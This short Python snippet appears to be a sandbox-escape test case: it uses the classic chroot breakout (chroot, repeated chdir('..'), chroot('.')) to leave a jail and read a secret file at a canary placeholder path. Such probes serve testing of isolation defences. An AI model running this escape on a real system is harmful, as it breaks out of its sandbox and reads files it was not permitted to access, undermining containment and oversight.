import os
os.chroot('/usr')
for _ in range(20): os.chdir('..')
os.chroot('.')
output = open('@CANARY@/secret.txt').read()
